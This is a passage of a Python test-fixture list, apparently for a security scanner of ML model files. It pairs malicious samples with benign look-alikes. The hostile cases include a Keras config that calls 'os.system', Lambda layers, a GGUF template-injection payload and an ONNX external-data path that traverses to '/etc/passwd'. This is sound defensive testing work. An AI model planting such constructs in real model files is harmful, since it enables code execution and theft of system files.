    _c("npz-object-array", "arrays.npz", lambda: _npz(_obj_npy()), "ATS-ART-001"),
    _c("npy-truncated", "short.npy", lambda: ab.npy("<f8", (100,), b"\x00" * 16), "ATS-ART-004"),
    # ---- Keras, safetensors, GGUF, ONNX
    _c("keras-lambda", "model.keras", lambda: _keras([ab.DENSE, ab.LAMBDA]), "ATS-ART-006"),
    _c("keras-nested-foreign-module", "nested.keras",
       lambda: _keras([{"module": "keras", "class_name": "Sequential", "config": {"layers": [
           {"module": "os", "class_name": "system", "config": {}}]}}]), "ATS-ART-006"),
    _c("h5-lambda", "legacy.h5", lambda: _h5([ab.DENSE, ab.LAMBDA]), "ATS-ART-006"),
    _c("safetensors-overlap", "bad.safetensors", _safetensors_bad, "ATS-ART-004"),
    _c("gguf-ssti", "model.gguf", lambda: ab.gguf(SSTI), "ATS-ART-009"),
    _c("onnx-external-escape", "model.onnx", lambda: ab.onnx_with_external("../../../../etc/passwd"), "ATS-ART-010"),
    # ---- benign look-alikes: must stay silent
    _c("plain-dict-proto0", "cfg0.pkl", lambda: b"(dp0\nS'lr'\np1\nF0.001\nsS'n'\np2\nI10\ns.", guards=ALL_PICKLE),
    _c("plain-dict-proto2", "cfg2.pkl", lambda: ab.plain_dict(2), guards=ALL_PICKLE),
    _c("plain-dict-proto5", "cfg5.pkl", lambda: ab.plain_dict(5), guards=ALL_PICKLE),
    _c("ordered-dict-proto0", "od.pkl", lambda: b"ccollections\nOrderedDict\np0\n((lp1\ntRp2\n.", guards=ALL_PICKLE),
    _c("numpy-array-pickle", "arr.pkl", lambda: ab.numpy_array_pickle(2), guards=ALL_PICKLE),
    _c("sklearn-estimator", "clf.pkl", ab.sklearn_estimator_pickle, guards=ALL_PICKLE),
    _c("torch-state-dict-zip", "good.pt", lambda: ab.torch_zip(ab.torch_state_dict_pickle(3)),
       guards=ALL_PICKLE | {"ATS-ART-005"}),
    _c("torch-state-dict-legacy", "good_legacy.pt", lambda: ab.legacy_torch(ab.torch_state_dict_pickle()), guards=ALL_PICKLE),
    _c("torchscript-archive", "scripted.pt", _torchscript, guards=ALL_PICKLE | {"ATS-ART-005"}),
    _c("nested-benign-bytes", "nested_ok.pt", _nested_benign_bytes, guards=ALL_PICKLE),
    _c("joblib-numpy-arrays", "good.joblib", lambda: ab.joblib_pickle(3), guards=ALL_PICKLE),
    _c("joblib-zlib-benign", "goodz.joblib", lambda: zlib.compress(ab.joblib_pickle(2), 3), guards=ALL_PICKLE),
    _c("pkl-gz-benign", "good.pkl.gz", lambda: gzip.compress(ab.sklearn_estimator_pickle()), guards=ALL_PICKLE),
    _c("numeric-npy", "good.npy", lambda: ab.npy("<f4", (2, 2), struct.pack("<4f", 1, 2, 3, 4)),
       guards=ALL_PICKLE),
    _c("numeric-npy-v2", "good2.npy", lambda: ab.npy("<i8", (2,), struct.pack("<2q", 1, 2), version=2), guards=ALL_PICKLE),
    _c("numeric-npz", "good.npz", lambda: _npz(ab.npy("<f8", (1,), struct.pack("<d", 1))), guards=ALL_PICKLE | {"ATS-ART-005"}),
    _c("keras-dense", "good.keras", lambda: _keras([ab.DENSE]), guards=frozenset({"ATS-ART-006", "ATS-ART-005"})),
    _c("h5-dense", "good.h5", lambda: _h5([ab.DENSE]), guards=frozenset({"ATS-ART-006"})),
    _c("safetensors-valid", "good.safetensors", _safetensors_ok, guards=frozenset({"ATS-ART-004"})),
    _c("gguf-plain-template", "good.gguf", lambda: ab.gguf(CHAT), guards=frozenset({"ATS-ART-009", "ATS-ART-004"})),
    _c("onnx-local-external", "good.onnx", lambda: ab.onnx_with_external("weights/model.onnx.data"),
       guards=frozenset({"ATS-ART-010"})),
    _c("empty-pkl", "empty.pkl", lambda: b"", guards=ALL_PICKLE | {"ATS-ART-007"}),
    _c("lfs-pointer", "lfs.pt", lambda: b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
       guards=ALL_PICKLE),
    _c("raw-weights-bin", "raw.bin", lambda: b"(\x00\x01\x02" * 64, guards=ALL_PICKLE),
    _c("shallow-zip", "shallow.zip", lambda: ab.zip_bytes([Member("a.zip", ab.zip_bytes([Member("b.pkl", ab.plain_dict())]))]),
       guards=frozenset({"ATS-ART-007"})),
    *BYPASSES,
    *BENIGN_VALUES,
    *FORMATS,
]

RULES = tuple(f"ATS-ART-{n:03d}" for n in range(1, 12))


def _coverage() -> dict[str, tuple[int, int]]:
    out = {}
    for rule in RULES:
        bad = sum(1 for c in CASES if rule in c.expect)
        good = sum(1 for c in CASES if rule in c.guards and rule not in c.expect)
        out[rule] = (bad, good)
    return out


# ATS-ART-008 reads MLflow `MLmodel` text files: its cases are annotated fixtures.
TEXT_ONLY = frozenset({"ATS-ART-008"})
COVERAGE: dict[str, tuple[int, int]] = _coverage()
